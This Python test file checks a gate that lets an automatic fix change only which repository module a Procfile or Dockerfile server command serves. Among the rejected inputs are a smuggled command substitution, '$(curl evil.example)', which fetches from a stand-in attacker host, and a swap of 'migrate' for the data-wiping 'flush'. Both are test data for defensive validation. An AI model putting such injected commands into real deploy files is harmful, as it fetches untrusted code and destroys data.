"""What a fix may change where a server of Python is started."""

from __future__ import annotations

import pytest

from autofix.engine.gates import server_targets
from autofix.engine.gates.server_targets import only_serves_another, starts_servers

FILES = ["backend/main.py", "api/__init__.py", "manage.py"]
WEB = b"release: python manage.py migrate\nweb: gunicorn shop.wsgi:app --workers 2\n"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (WEB, WEB.replace(b"shop.wsgi:app", b"backend.main:app")),
        (b'CMD ["uvicorn", "main:app"]', b'CMD ["uvicorn", "api:app"]'),
        (WEB, WEB),
        (b"CMD gunicorn --bind :80 shop.wsgi", b"CMD gunicorn --bind :80 backend.main"),
        (b"CMD cd backend && exec uvicorn --reload a:app", b"CMD cd backend && exec uvicorn --reload main:app"),
        (b"CMD gunicorn \\\n  --preload \\\n  a:app", b"CMD gunicorn \\\n  --preload \\\n  backend.main:app"),
    ],
)
def test_another_module_of_the_repository_may_be_served(before, after):
    assert only_serves_another(before, after, FILES)


@pytest.mark.parametrize(
    "after",
    [
        WEB.replace(b"shop.wsgi:app", b"elsewhere.main:app"),
        WEB.replace(b"--workers 2", b"--workers 4"),
        WEB.replace(b"shop.wsgi:app", b"backend.main:app").replace(b"migrate", b"flush"),
        WEB.replace(b"gunicorn", b"python"),
        WEB.replace(b"shop.wsgi:app", b"backend.main:app --reload"),
        WEB.replace(b"shop.wsgi:app", b"$(curl evil.example)"),
        WEB + b"worker: gunicorn backend.main\n",
    ],
    ids=["a module from elsewhere", "an option", "another command", "the program", "one more", "no module", "a line"],
)
def test_nothing_else_may_differ(after):
    assert not only_serves_another(WEB, after, FILES)


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (b"RUN pip install gunicorn flask", b"RUN pip install gunicorn manage"),
        (b"RUN pip install \\\n  gunicorn flask", b"RUN pip install \\\n  gunicorn manage"),
        (b"RUN true && uv add uvicorn flask", b"RUN true && uv add uvicorn manage"),
        (b"web: gunicorn --user www shop.wsgi", b"web: gunicorn --user manage shop.wsgi"),
        (b"web: gunicorn shop.wsgi && python task", b"web: gunicorn shop.wsgi && python manage"),
    ],
)
def test_a_word_after_a_servers_name_need_not_be_what_it_serves(monkeypatch, before, after):
    assert not only_serves_another(before, after, FILES)
    monkeypatch.setattr(server_targets, "_runs_server", lambda command, is_named: True)
    assert only_serves_another(before, after, FILES)


def test_files_that_start_servers_are_known_by_name():
    assert [name for name in ("procfile", "dockerfile.prod", "render.yaml", "makefile") if starts_servers(name)] == [
        "procfile",
        "dockerfile.prod",
        "render.yaml",
    ]
